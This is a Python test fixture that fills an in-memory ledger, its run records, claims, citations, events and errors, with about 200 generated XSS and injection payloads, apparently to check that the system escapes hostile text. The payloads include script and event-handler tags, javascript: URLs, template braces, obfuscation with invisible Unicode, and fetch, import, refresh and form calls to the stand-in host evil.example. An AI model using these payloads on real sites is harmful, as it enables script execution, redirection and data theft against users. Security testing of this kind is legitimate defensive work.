"""A ledger whose every name, text and error tries to be more than text."""

from collections.abc import Iterator
from dataclasses import replace
from itertools import cycle, islice

from atelier.kernel.canonical import Json, canonical
from atelier.kernel.digest import digest, digest_bytes
from atelier.ledger.memory import MemoryLedger
from atelier.ledger.rows import (
    ArtefactRow,
    CitationRow,
    ClaimRow,
    Consumed,
    Event,
    JudgementRow,
    Outcome,
    PacketRecord,
    Row,
    RunEnd,
    RunStart,
    RunStatus,
    Supply,
)
from atelier.ledger.store import Commit
from atelier.testing.ledger_samples import NOW, add, attempt

RUN, SERVED = "01m8h7j5nrghsq2am30zj40aba", "01m8h7j5nrghsq2am30zj40abb"
_ACTS = (
    "owned=1",
    "alert(1)",
    "window.owned=1",
    "document.title='owned'",
    "fetch('//evil.example')",
    "location='//evil.example'",
    "import('//evil.example/x.js')",
    "top.owned=1",
)
_SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "<a href=javascript:{}>x</a>",
    "[x](javascript:{})",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<style>@import '//evil.example/{}'</style>",
    "<div style=background:url(//evil.example/{})>x</div>",
    "{{{{ ''.__class__ }}}}{{% {} %}}",
    "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<body onload={}>",
    "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<form action=//evil.example/{}><button>x</button></form>",
    "\u202e<script>{}</script>\u202c",
    "\u200b<scr\u200bipt>{}</script>",
    "<object data=javascript:{}></object>",
    "![x](//evil.example/{})",
    "&lt;script&gt;{}&lt;/script&gt;",
    '`-{}-`" onmouseover="{}',
)
PAYLOADS = tuple(shape.format(act, act) for act in _ACTS for shape in _SHAPES)[:200]


def _stored(value: Json, blobs: dict[str, bytes]) -> str:
    data = canonical(value)
    blobs[digest_bytes(data)] = data
    return digest_bytes(data)


def _given(number: int) -> Iterator[str]:
    return islice(cycle(PAYLOADS), number, None)


def hostile_ledger() -> MemoryLedger:
    """One run with every payload in every kind of place, and one that was served from it."""
    ledger, blobs = MemoryLedger(), dict[str, bytes]()
    take = _given(0)
    everything = "\n".join(PAYLOADS)
    elements: list[Json] = [{"speaker": text, "text": text, text: text} for text in PAYLOADS]
    sliced = _stored(elements, blobs)
    origins = _stored(
        {"transcript": [{"file": text, "speaker": text, "time": text} for text in PAYLOADS]}, blobs
    )
    obliged = [digest(element) for element in elements[:30]]
    manifest = _stored(
        {
            "of": {
                "parameters": {next(take): everything},
                "obligations": {"transcript": obliged},
            }
        },
        blobs,
    )
    output = _stored({"text": everything, "claims": list(PAYLOADS)}, blobs)
    review = _stored(_review(), blobs)
    request = _stored(
        {
            "binding": {"model": next(take), next(take): next(take)},
            "messages": [{"role": next(take), "text": everything}],
            "schema": {next(take): everything},
            "system": everything,
        },
        blobs,
    )
    response = _stored(
        {"status": 200, "headers": {next(take): next(take)}, "body": everything}, blobs
    )
    text = everything.encode()
    blobs[digest_bytes(text)] = text
    components = _stored(
        {
            f"{kind}/{next(take)}": {"digest": digest(kind), "text": digest_bytes(text)}
            for kind in ("code", "prompt", "stand-in", "option")
        },
        blobs,
    )
    printed = "\n".join(str(entry["sentence"]) for entry in _lines()).encode()
    blobs[digest_bytes(printed)] = printed
    lines = _stored(_lines(), blobs)
    error = {
        "code": next(take),
        "sentence": next(take),
        "facts": {next(take): everything},
        "next_step": next(take),
    }
    packet = digest("packet")
    start = RunStart(
        run=RUN,
        workflow=next(take),
        scope=next(take),
        packet=packet,
        run_key=digest("key"),
        started_at=NOW,
        target=next(take),
        parameters={next(take): everything, "student": next(take)},
        subject=next(take),
        owner=next(take),
        versions={next(take): next(take)},
    )
    consumed = Consumed(
        parameter=next(take), supply=Supply.SLICE, source="transcript", digest=sliced, whole=sliced
    )
    draft = Row(
        run=RUN,
        stage="draft",
        outcome=Outcome.RAN,
        recorded_at=NOW,
        reason=next(take),
        key=digest("row"),
        recipe=digest("recipe"),
        components=components,
        output=output,
        model_class=next(take),
        model_requested=next(take),
        model_served=next(take),
        requests=1,
        price_table=next(take),
        unseen=({"what": next(take), "where": next(take), "declare": next(take)},),
        sound=False,
        consumed=(consumed,),
    )
    handed = Consumed(
        parameter="draft", supply=Supply.STAGE, source="draft", digest=output, whole=output
    )
    rows = (
        draft,
        replace(draft, stage="review", key=digest("review"), output=review, consumed=(handed,)),
        replace(draft, stage="synthesis", key=digest("synthesis"), consumed=(handed,)),
        *(
            replace(
                draft,
                stage=name,
                key=None,
                output=None,
                outcome=Outcome.FAILED,
                error=error,
                consumed=(replace(handed, parameter=name),),
            )
            for name in PAYLOADS[:24]
        ),
    )
    sent = replace(attempt(RUN), request=request, outcome="intent", model_requested=next(take))
    add(
        ledger,
        Commit(start=start),
        Commit(
            packet=PacketRecord(
                packet=packet,
                manifest=manifest,
                origins=origins,
                run=RUN,
                slices={"transcript": sliced, next(take): sliced},
            ),
            blobs=blobs,
        ),
        Commit(attempts=(sent,)),
        Commit(
            attempts=(
                replace(
                    sent,
                    outcome=next(take),
                    response=response,
                    model_served=next(take),
                    error=error,
                    ended_at=NOW,
                ),
            )
        ),
        Commit(rows=rows, claims=_claims(output), citations=_citations(output)),
        Commit(
            judgements=tuple(
                JudgementRow(
                    output=output,
                    claim=f"{at:08x}",
                    ordinal=at,
                    verdict="contested",
                    who=name,
                    reason=name,
                    recorded_at=NOW,
                )
                for at, name in enumerate(PAYLOADS[:40])
            ),
            events=tuple(
                Event(kind=name, subject=name, detail=name, recorded_at=NOW, run=RUN)
                for name in PAYLOADS
            ),
        ),
        Commit(
            artefact=ArtefactRow(
                run=RUN,
                stage="synthesis",
                path=next(take),
                digest=digest_bytes(printed),
                mark=next(take),
                lines=lines,
                action=next(take),
                recorded_at=NOW,
            )
        ),
        Commit(
            end=RunEnd(run=RUN, status=RunStatus.PARTIAL, ended_at=NOW, sound=False, seconds=1.0)
        ),
    )
    return ledger


def _claims(output: str) -> tuple[ClaimRow, ...]:
    verdicts = cycle(("supported", "contested", "unsupported", "unverified", "contradicted"))
    return tuple(
        ClaimRow(
            output=output,
            claim=f"{at:08x}",
            ordinal=at,
            text=name,
            kind=name,
            verdict=next(verdicts),
            flag=name,
            decided_by=name,
            checks=canonical(
                [{"name": name, "outcome": "warn", "detail": name, "by": name}]
            ).decode(),
        )
        for at, name in enumerate(PAYLOADS)
    )


def _citations(output: str) -> tuple[CitationRow, ...]:
    return tuple(
        CitationRow(
            output=output,
            claim=f"{at:08x}",
            ordinal=at,
            slice="transcript",
            element=digest({"speaker": name, "text": name, name: name}),
            occurrence=1,
            pointer="/text",
            start=0,
            end=len(name),
            quote=name,
            match=name,
            role="contradicts" if at % 3 == 0 else "supports",
            found_by=name,
        )
        for at, name in enumerate(PAYLOADS)
    )


def _lines() -> list[dict[str, Json]]:
    parts = ("title", "heading", *(["text"] * len(PAYLOADS)))
    return [
        {
            "first": at + 1,
            "last": at + 1,
            "part": part,
            "passage": 0 if at else -1,
            "sentence": PAYLOADS[at % len(PAYLOADS)],
            "flag": "contested" if at % 2 else "",
            "claims": [f"{at % len(PAYLOADS):08x}"],
        }
        for at, part in enumerate(parts)
    ]


def _evidence(name: str) -> Json:
    element = digest({"speaker": name, "text": name, name: name})
    return {
        "address": {
            "slice": "transcript",
            "element": element,
            "occurrence": 1,
            "pointer": "/text",
            "span": {"start": 0, "end": len(name)},
        },
        "quote": name,
        "match": "verbatim",
        "role": "supports",
        "found_by": "model",
    }


def _review() -> Json:
    findings: list[Json] = [
        {
            "id": f"{at:08x}",
            "kind": "obligation",
            "statement": name,
            "claims": [f"{at:08x}"],
            "evidence": [_evidence(name)],
        }
        for at, name in enumerate(PAYLOADS[:40])
    ]
    return {
        "findings": findings,
        "question": {
            "text": f"{PAYLOADS[0]}?",
            "turns_on": ["00000000"],
            "evidence": [_evidence(PAYLOADS[0])],
        },
        "declined": [{"statement": name, "check": name} for name in PAYLOADS[:40]],
    }
